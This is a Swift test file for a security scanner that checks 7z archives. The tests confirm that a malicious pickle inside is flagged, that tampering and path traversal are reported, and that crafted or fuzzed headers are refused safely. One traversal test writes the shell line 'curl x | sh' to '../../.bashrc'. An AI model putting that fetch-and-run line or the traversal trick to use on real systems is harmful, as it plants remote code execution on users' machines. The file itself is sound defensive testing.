import BulwarkCore
import BulwarkFormats
@testable import BulwarkModels
import Foundation
import Testing

/// Writes 7z archives byte by byte (our own writer after the 7z format description: signature header,
/// streams info, files info), with stored, LZMA2 (uncompressed chunks) or LZMA coders.
enum SevenZipBuilder {
    enum Coder { case copy, lzma2, lzma, lzma2BCJ, ppmd, aes }

    static func number(_ v: UInt64) -> [UInt8] {
        for n in 0..<8 {
            let high = n == 0 ? v : v >> (8 * UInt64(n))
            if high < (UInt64(1) << (7 - UInt64(n))) {
                let prefix = UInt8((0xFF << (8 - n)) & 0xFF)
                return [prefix | UInt8(high)] + le(v, n)
            }
        }
        return [0xFF] + le(v, 8)
    }

    static func le(_ v: UInt64, _ n: Int) -> [UInt8] { (0..<n).map { UInt8((v >> (8 * UInt64($0))) & 0xFF) } }

    /// LZMA2 made of uncompressed chunks (control 1 = dictionary reset, 2 = continue), then the end byte.
    static func lzma2Stored(_ data: [UInt8]) -> [UInt8] {
        var out: [UInt8] = []
        var i = 0
        while i < data.count {
            let n = min(65_536, data.count - i)
            out += [i == 0 ? 1 : 2, UInt8((n - 1) >> 8), UInt8((n - 1) & 0xFF)] + data[i..<(i + n)]
            i += n
        }
        return out + [0]
    }

    /// (coders as id+properties in 7z order, packed bytes) for `data`.
    static func pack(_ data: [UInt8], _ coder: Coder) -> ([(id: [UInt8], props: [UInt8])], [UInt8]) {
        switch coder {
        case .copy: return ([([0x00], [])], data)
        case .lzma2: return ([([0x21], [0x10])], lzma2Stored(data))
        case .lzma2BCJ:
            // x86 BCJ leaves bytes without E8/E9 opcodes unchanged, so stored LZMA2 of the data decodes through it.
            return ([([0x21], [0x10]), ([0x03, 0x03, 0x01, 0x03], [])], lzma2Stored(data))
        case .lzma:
            let alone = StreamDecompressor.compress(.lzmaAlone, data, level: 1)!
            return ([([0x03, 0x01, 0x01], Array(alone[0..<5]))], Array(alone[13...]))
        case .ppmd: return ([([0x03, 0x04, 0x01], [6, 0, 0, 0x10, 0])], data)
        case .aes: return ([([0x06, 0xF1, 0x07, 0x01], [0x00])], data)
        }
    }

    static func folder(_ coders: [(id: [UInt8], props: [UInt8])]) -> [UInt8] {
        var out = number(UInt64(coders.count))
        for c in coders {
            out += [UInt8(c.id.count) | (c.props.isEmpty ? 0 : 0x20)] + c.id
            if !c.props.isEmpty { out += number(UInt64(c.props.count)) + c.props }
        }
        // A line: coder i+1 reads what coder i wrote; the packed stream feeds coder 0.
        for i in 0..<max(0, coders.count - 1) { out += number(UInt64(i + 1)) + number(UInt64(i)) }
        return out
    }

    /// Streams info of one folder holding `sizes` streams (CRCs given per stream).
    static func streamsInfo(packPos: Int, packSize: Int, coders: [(id: [UInt8], props: [UInt8])], sizes: [Int], crcs: [UInt32]) -> [UInt8] {
        let total = sizes.reduce(0, +)
        var out: [UInt8] = [0x06] + number(UInt64(packPos)) + number(1) + [0x09] + number(UInt64(packSize)) + [0x00]
        out += [0x07, 0x0B] + number(1) + [0x00] + folder(coders) + [0x0C]
        for _ in coders { out += number(UInt64(total)) }
        out += [0x00]
        out += [0x08, 0x0D] + number(UInt64(sizes.count))
        if sizes.count > 1 {
            out += [0x09]
            for s in sizes.dropLast() { out += number(UInt64(s)) }
        }
        out += [0x0A, 0x01]
        for c in crcs { out += le(UInt64(c), 4) }
        return out + [0x00, 0x00]
    }

    static func names(_ list: [String]) -> [UInt8] {
        var b: [UInt8] = [0x00]
        for n in list {
            for u in n.utf16 { b += [UInt8(u & 0xFF), UInt8(u >> 8)] }
            b += [0, 0]
        }
        return b
    }

    /// One solid folder holding every non-empty file; empty files are empty streams. `encodedHeader`
    /// packs the header itself (stored LZMA2), as 7-Zip does by default.
    static func archive(_ files: [(String, [UInt8])], coder: Coder = .lzma2, encodedHeader: Bool = false,
                        crcOverride: UInt32? = nil) -> [UInt8] {
        let withData = files.filter { !$0.1.isEmpty }
        let data = withData.flatMap(\.1)
        let (coders, packed) = pack(data, coder)
        var header: [UInt8] = [0x01, 0x04]
        header += streamsInfo(packPos: 0, packSize: packed.count, coders: coders, sizes: withData.map(\.1.count),
                              crcs: withData.map { crcOverride ?? CRC32.checksum($0.1) })
        header += [0x05] + number(UInt64(files.count))
        if withData.count < files.count {
            var bits = [UInt8](repeating: 0, count: (files.count + 7) / 8)
            for (i, f) in files.enumerated() where f.1.isEmpty { bits[i / 8] |= 0x80 >> UInt8(i % 8) }
            header += [0x0E] + number(UInt64(bits.count)) + bits
            let empties = files.count - withData.count
            var fileBits = [UInt8](repeating: 0xFF, count: (empties + 7) / 8) // empty files, not folders
            if empties % 8 != 0 { fileBits[fileBits.count - 1] = UInt8((0xFF << (8 - empties % 8)) & 0xFF) }
            header += [0x0F] + number(UInt64(fileBits.count)) + fileBits
        }
        let n = names(files.map(\.0))
        header += [0x11] + number(UInt64(n.count)) + n + [0x00, 0x00]
        var body = packed
        if encodedHeader {
            let packedHeader = lzma2Stored(header)
            let outer: [UInt8] = [0x17] + streamsInfoForHeader(packPos: body.count, packSize: packedHeader.count, size: header.count,
                                                                crc: CRC32.checksum(header))
            body += packedHeader
            header = outer
        }
        return signatureHeader(nextOffset: body.count, next: header) + body + header
    }

    static func streamsInfoForHeader(packPos: Int, packSize: Int, size: Int, crc: UInt32) -> [UInt8] {
        [0x06] + number(UInt64(packPos)) + number(1) + [0x09] + number(UInt64(packSize)) + [0x00]
            + [0x07, 0x0B] + number(1) + [0x00] + folder([([0x21], [0x10])]) + [0x0C] + number(UInt64(size))
            + [0x0A, 0x01] + le(UInt64(crc), 4) + [0x00, 0x00]
    }

    static func signatureHeader(nextOffset: Int, next: [UInt8], nextSizeOverride: UInt64? = nil) -> [UInt8] {
        let tail = le(UInt64(nextOffset), 8) + le(nextSizeOverride ?? UInt64(next.count), 8) + le(UInt64(CRC32.checksum(next)), 4)
        return [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04] + le(UInt64(CRC32.checksum(tail)), 4) + tail
    }

    /// A hand-written archive: the given header bytes after the signature header (no packed data).
    static func withHeader(_ header: [UInt8], body: [UInt8] = []) -> [UInt8] {
        signatureHeader(nextOffset: body.count, next: header) + body + header
    }
}

@Suite("7z archives")
struct SevenZipTests {
    static let evil = PickleExamples.osSystem
    static let benign = PickleBuilder.torchStateDict()

    func critical(_ f: [Finding]) -> Bool { f.contains { $0.ruleID == "pickle-dangerous-call" && $0.severity == .critical } }

    @Test(arguments: [SevenZipBuilder.Coder.copy, .lzma2, .lzma, .lzma2BCJ])
    func pickleInsideIsScannedLikeAZipMember(coder: SevenZipBuilder.Coder) {
        for encoded in [false, true] {
            let z = SevenZipBuilder.archive([("docs/readme.txt", Array("hello\n".utf8)), ("archive/data.pkl", Self.evil),
                                             ("archive/empty.txt", []), ("archive/data/0", [UInt8](repeating: 7, count: 3000))],
                                            coder: coder, encodedHeader: encoded)
            let f = scanModel(z, path: "models/model.7z")
            #expect(critical(f), "\(coder) encoded=\(encoded): \(f.map(\.message))")
            #expect(f.contains { $0.location.archiveMember?.hasSuffix("archive/data.pkl") == true }, "\(coder)")
            #expect(!f.contains { $0.ruleID == "archive-unscannable-payload" || $0.ruleID == "archive-zip-tampering" }, "\(coder): \(f.map(\.message))")
        }
    }

    @Test func readerListsFilesAndFolders() throws {
        let z = SevenZipBuilder.archive([("a.txt", [1, 2, 3]), ("dir/b.pkl", Self.evil), ("c", [])], coder: .lzma2, encodedHeader: true)
        let a = try SevenZipReader.read(MemoryBytes(z))
        #expect(a.encodedHeaderLevels == 1)
        #expect(a.entries.map(\.name) == ["a.txt", "dir/b.pkl", "c"])
        #expect(a.entries.map(\.hasStream) == [true, true, false])
        #expect(a.entries[1].offset == 3 && a.entries[1].size == Self.evil.count)
        #expect(a.folders.count == 1 && a.folders[0].method == "LZMA2" && a.folders[0].unsupported == nil)
        let r = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: .init(maxOutput: 1 << 20))
        #expect(r.stop == nil)
        #expect(r.output == [1, 2, 3] + Self.evil)
    }

    @Test func benignCheckpointInA7zIsClean() {
        for coder in [SevenZipBuilder.Coder.copy, .lzma2, .lzma] {
            let z = SevenZipBuilder.archive([("archive/data.pkl", Self.benign), ("archive/version", Array("3\n".utf8)),
                                             ("archive/data/0", [UInt8](repeating: 0, count: 4096))], coder: coder, encodedHeader: true)
            #expect(serious(scanModel(z, path: "models/model.7z")).isEmpty, "\(coder)")
        }
    }

    @Test func unsupportedCodersAreUnscannableNeverClean() {
        for (coder, word) in [(SevenZipBuilder.Coder.ppmd, "PPMd"), (.aes, "AES")] {
            let z = SevenZipBuilder.archive([("archive/data.pkl", Self.evil)], coder: coder)
            let f = scanModel(z, path: "models/model.7z")
            #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.severity == .medium && $0.message.contains(word) },
                    "\(word): \(f.map(\.message))")
        }
    }

    @Test func crcMismatchAndTraversalAreReported() {
        let bad = SevenZipBuilder.archive([("archive/data.pkl", Self.benign)], coder: .lzma2, crcOverride: 0xDEAD_BEEF)
        #expect(scanModel(bad, path: "m.7z").contains { $0.ruleID == "archive-zip-tampering" && $0.message.contains("CRC") })
        let out = SevenZipBuilder.archive([("../../.bashrc", Array("curl x | sh\n".utf8))], coder: .copy)
        #expect(scanModel(out, path: "m.7z").contains { $0.ruleID == "archive-path-traversal" })
    }

    // MARK: - Hostile headers

    /// Each crafted header must be refused with a one-line reason (reported as "cannot be scanned"),
    /// quickly and without a crash.
    @Test func craftedHeadersAreRefusedWithinBounds() {
        let n = SevenZipBuilder.number
        let huge = n(UInt64.max)
        let cases: [(String, [UInt8])] = [
            ("header past the end", SevenZipBuilder.signatureHeader(nextOffset: 1 << 40, next: [0x01, 0x00])),
            ("2^64 header size", SevenZipBuilder.signatureHeader(nextOffset: 0, next: [0x01], nextSizeOverride: UInt64.max)),
            ("2^64 files", SevenZipBuilder.withHeader([0x01, 0x05] + huge + [0x00, 0x00])),
            ("2^64 folders", SevenZipBuilder.withHeader([0x01, 0x04, 0x07, 0x0B] + huge + [0x00])),
            ("2^64 packed streams", SevenZipBuilder.withHeader([0x01, 0x04, 0x06, 0x00] + huge + [0x09])),
            ("2^64 coders", SevenZipBuilder.withHeader([0x01, 0x04, 0x06, 0x00, 0x01, 0x09, 0x01, 0x00, 0x07, 0x0B, 0x01, 0x00] + huge)),
            ("truncated number", SevenZipBuilder.withHeader([0x01, 0x05, 0xFF, 0x01])),
            ("substream sizes above the folder", SevenZipBuilder.withHeader(
                [0x01, 0x04, 0x06, 0x00, 0x01, 0x09, 0x04, 0x00, 0x07, 0x0B, 0x01, 0x00, 0x01, 0x01, 0x00, 0x0C, 0x04, 0x00,
                 0x08, 0x0D, 0x02, 0x09] + huge + [0x00, 0x00, 0x00], body: [1, 2, 3, 4])),
            ("unknown property", SevenZipBuilder.withHeader([0x01, 0x42, 0x00])),
            ("not a header", SevenZipBuilder.withHeader([0x33, 0x00])),
            ("external names", SevenZipBuilder.withHeader([0x01, 0x05, 0x01, 0x11, 0x02, 0x01, 0x00, 0x00, 0x00])),
        ]
        let start = Date()
        for (name, bytes) in cases {
            #expect(throws: SevenZipReader.Failure.self, "\(name)") { try SevenZipReader.read(MemoryBytes(bytes)) }
            let f = scanModel(bytes, path: "m.7z")
            #expect(f.contains { $0.ruleID == "archive-unscannable-payload" && $0.severity == .medium }, "\(name): \(f.map(\.message))")
        }
        #expect(Date().timeIntervalSince(start) < 10)
    }

    /// Two copy coders, one reading its own output: not a chain, so the folder is "cannot be scanned".
    @Test func coderGraphThatIsNotAChainIsUnscannable() {
        let names = SevenZipBuilder.names(["x.pkl"])
        let header: [UInt8] = [0x01, 0x04, 0x06, 0x00, 0x01, 0x09, 0x04, 0x00, 0x07, 0x0B, 0x01, 0x00,
                               0x02, 0x01, 0x00, 0x01, 0x00, 0x00, 0x00, 0x0C, 0x04, 0x04, 0x00, 0x00,
                               0x05, 0x01, 0x11] + SevenZipBuilder.number(UInt64(names.count)) + names + [0x00, 0x00]
        let z = SevenZipBuilder.withHeader(header, body: Array(Self.evil.prefix(4)))
        let a = try? SevenZipReader.read(MemoryBytes(z))
        #expect(a?.folders.first?.unsupported?.contains("chain") == true)
        #expect(scanModel(z, path: "m.7z").contains { $0.ruleID == "archive-unscannable-payload" && $0.severity == .medium })
    }

    /// An encoded header whose packed stream decodes to another encoded header pointing at itself.
    @Test func selfReferencingEncodedHeaderStops() {
        // The packed stream (at offset 0) is the encoded header itself, stored with the copy coder.
        func outer(_ size: Int) -> [UInt8] {
            [0x17, 0x06] + SevenZipBuilder.number(0) + [0x01, 0x09] + SevenZipBuilder.number(UInt64(size)) + [0x00, 0x07, 0x0B, 0x01, 0x00,
              0x01, 0x01, 0x00, 0x0C] + SevenZipBuilder.number(UInt64(size)) + [0x00, 0x00]
        }
        let header = outer(outer(20).count)
        let z = SevenZipBuilder.signatureHeader(nextOffset: 0, next: header) + header
        #expect(throws: SevenZipReader.Failure.self) { try SevenZipReader.read(MemoryBytes(z)) }
        #expect(scanModel(z, path: "m.7z").contains { $0.ruleID == "archive-unscannable-payload" })
    }

    /// Declared sizes far above the data (2^40 bytes, a 4 GiB dictionary) cost what the data holds.
    @Test func hugeDeclaredSizesCostOnlyTheData() throws {
        let z = SevenZipBuilder.archive([("data.pkl", Self.evil)], coder: .lzma)
        var a = try SevenZipReader.read(MemoryBytes(z))
        a.folders[0].unpackSize = 1 << 40
        let r = SevenZipReader.decode(a.folders[0], from: MemoryBytes(z), limits: .init(maxOutput: 1 << 30))
        #expect(r.stop != nil)
        #expect(r.output.starts(with: Self.evil))
        // A 4 GiB LZMA dictionary with a small output decodes with a dictionary of the output's size.
        var props = SevenZipBuilder.pack(Self.evil, .lzma).0[0].props
        props[1...4] = [0xFF, 0xFF, 0xFF, 0xFF]
        let packed = SevenZipBuilder.pack(Self.evil, .lzma).1
        let header: [UInt8] = [0x01, 0x04] + SevenZipBuilder.streamsInfo(packPos: 0, packSize: packed.count, coders: [([0x03, 0x01, 0x01], props)],
                                                                          sizes: [Self.evil.count], crcs: [CRC32.checksum(Self.evil)])
            + [0x05, 0x01] + [0x11] + SevenZipBuilder.number(UInt64(SevenZipBuilder.names(["x.pkl"]).count)) + SevenZipBuilder.names(["x.pkl"]) + [0x00, 0x00]
        let big = SevenZipBuilder.withHeader(header, body: packed)
        #expect(critical(scanModel(big, path: "m.7z")))
    }

    /// Seeded mutations of valid archives: never a crash or a hang; the seeds reach their payload.
    @Test func mutatedArchivesNeverCrashOrHang() {
        let seeds = [SevenZipBuilder.archive([("a/data.pkl", Self.evil), ("b.txt", [1, 2])], coder: .lzma2, encodedHeader: true),
                     SevenZipBuilder.archive([("data.pkl", Self.evil)], coder: .lzma),
                     SevenZipBuilder.archive([("x.pkl", Self.evil), ("y", [])], coder: .copy)]
        for s in seeds { #expect(critical(scanModel(s, path: "m.7z"))) }
        var rng = SeededRandom(state: 77)
        let start = Date()
        for i in 0..<900 {
            var b = seeds[i % seeds.count]
            switch rng.next() % 4 {
            case 0: b = Array(b.prefix(Int(rng.next() % UInt64(b.count))))
            default:
                for _ in 0..<(1 + Int(rng.next() % 4)) {
                    let at = Int(rng.next() % UInt64(b.count))
                    b[at] = rng.next() % 3 == 0 ? 0xFF : UInt8(truncatingIfNeeded: rng.next())
                }
            }
            _ = scanModel(b, path: "m.7z")
            _ = try? SevenZipReader.read(MemoryBytes(b))
        }
        #expect(Date().timeIntervalSince(start) < 60)
    }
}
